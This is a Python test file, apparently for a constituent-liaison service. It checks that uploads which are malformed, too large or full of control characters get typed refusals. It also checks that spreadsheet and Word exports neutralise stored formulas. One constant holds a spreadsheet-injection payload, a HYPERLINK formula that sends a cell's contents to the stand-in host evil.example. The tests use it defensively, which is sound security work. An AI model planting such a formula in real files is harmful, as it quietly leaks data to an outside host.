"""Hostile uploads and hostile stored text through the file routes: typed 4xx answers,
imports parsed off the event loop, exports that neither crash nor carry live formulas."""

import io
import re
import threading
import zipfile
from datetime import datetime

import pytest
from docx import Document
from sqlalchemy import update

from liaison.imports import reader
from liaison.models import Constituent, Member
from liaison.tenancy.scope import TenantScope, apply_scope
from tests.builders import BEIJING, auth, make_contact, make_member, make_pairing
from tests.imports.handmade import row, xlsx
from tests.readback import count
from tests.workbooks import read_workbook, upload

EVIL = '=HYPERLINK("http://evil.example/"&K3,"详情")'
MEMBERS = row(1, "姓名*", "界别*", "工作单位", "联系电话")
PAIRINGS = row(1, "委员姓名*", "联系对象姓名*", "类别*")
CONTACTS = row(1, "委员姓名*", "界别群众姓名*", "联系服务时间*", "联系服务方式*")


@pytest.mark.parametrize("path, header", [("/files/imports/members", MEMBERS),
                                          ("/files/imports/pairings", PAIRINGS),
                                          ("/files/imports/contacts", CONTACTS)])
async def test_imports_parse_in_a_worker_thread(client, roster, monkeypatch, path, header):
    threads, real = [], reader.read_rows

    def spy(*args, **kwargs):
        threads.append(threading.get_ident())
        return real(*args, **kwargs)

    monkeypatch.setattr(reader, "read_rows", spy)
    w = roster.world
    response = await upload(client, path, xlsx(header), auth(w, w.county_a))
    assert (response.status_code, response.json()["code"]) == (400, "EMPTY")
    assert len(threads) == 1 and threads[0] != threading.get_ident()


@pytest.mark.parametrize("data, status, code", [
    (xlsx(MEMBERS, '<row r="2"><c r="A2" t="n"><v>abc</v></c></row>'), 400, "NOT_XLSX"),
    (xlsx(MEMBERS, row(5_000_000, "孙丽", "工会")), 400, "TOO_MANY_ROWS"),
    (xlsx(MEMBERS, row(2, "孙丽", "工会"), padding=3 * 1024 * 1024), 413, "TOO_LARGE"),
])
async def test_hostile_uploads_are_typed_refusals(client, owner, roster, data, status, code):
    w = roster.world
    response = await upload(client, "/files/imports/members", data, auth(w, w.county_a))
    assert (response.status_code, response.json()["code"]) == (status, code)
    if code == "NOT_XLSX":
        assert response.json()["message"] == "无法读取该 Excel 文件，请确认是 .xlsx 格式"
    assert (await count(owner, Member, w.county_a),
            await count(owner, Member, w.county_b)) == (3, 1)


async def test_a_control_character_in_an_upload_is_a_row_error(client, owner, roster):
    w = roster.world
    data = xlsx(MEMBERS, row(2, "孙丽", "工会", "某中学_x0001_", "13800002222"),
                row(3, "周杰", "中共", "某镇&#10;政府", "13800003333"))
    response = await upload(client, "/files/imports/members", data, auth(w, w.county_a))
    assert (response.status_code, response.json()["errors"]) == (422, [
        {"row": 2, "column": "工作单位", "message": "含有不允许的控制字符"},
        {"row": 3, "column": "工作单位", "message": "只能填写一行，不能含换行符或制表符"}])
    assert await count(owner, Member, w.county_a) == 3


def no_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return re.search(r"<(\w+:)?f[ >/]", archive.read("xl/worksheets/sheet1.xml").decode()) \
            is None


async def test_exports_of_hostile_stored_text(client, owner, roster):
    """Written straight into the database, as an old client or a script could have."""
    w, a = roster.world, roster.world.county_a
    qian = await make_member(owner, a, roster.terms[a.code], "钱七", phone="13500001111",
                             post="职员\u0001", work_unit=EVIL)
    pairing = await make_pairing(owner, qian, "孙群众")
    await apply_scope(owner, TenantScope.only(a.id))
    await owner.execute(update(Constituent).where(
        Constituent.tenant_id == a.id, Constituent.id == pairing.constituent_id,
    ).values(work_unit=EVIL, post="主任\u0001"))
    await owner.commit()
    contact = await make_contact(owner, pairing, datetime(2025, 3, 10, 10, tzinfo=BEIJING),
                                 opinions="建议\u0001修路")
    office = auth(w, a)

    response = await client.get("/files/exports/members.xlsx", headers=office)
    assert response.status_code == 200 and no_formula(response.content)
    rows = read_workbook(response.content).active.iter_rows(min_row=3,
                                                                        values_only=True)
    assert [(r[8], r[9]) for r in rows if r[1] == "钱七"] == [("'" + EVIL, "职员")]

    response = await client.get(f"/files/forms/form1.docx?member={qian.id}", headers=office)
    assert response.status_code == 200
    cells = [c.text for c in Document(io.BytesIO(response.content)).tables[0].rows[1].cells]
    assert cells == ["1", "孙群众", "群众", EVIL + " 主任", "13900001111"]
    response = await client.get(f"/files/forms/form1.xlsx?member={qian.id}", headers=office)
    assert response.status_code == 200 and no_formula(response.content)
    sheet = read_workbook(response.content)["钱七"]
    assert [c.value for c in sheet[5]] == [1, "孙群众", "群众", "'" + EVIL + " 主任",
                                           "13900001111"]

    response = await client.get(f"/files/forms/form2.docx?contact={contact.id}", headers=office)
    assert response.status_code == 200
    table = Document(io.BytesIO(response.content)).tables[0]
    assert (table.rows[2].cells[1].text, table.rows[6].cells[1].text) == (EVIL + " 主任",
                                                                          "建议修路")
    response = await client.get(f"/files/forms/form2.xlsx?contact={contact.id}", headers=office)
    assert response.status_code == 200 and no_formula(response.content)
    sheet = read_workbook(response.content).worksheets[0]
    assert (sheet["B6"].value, sheet["B10"].value) == ("'" + EVIL + " 主任", "建议修路")
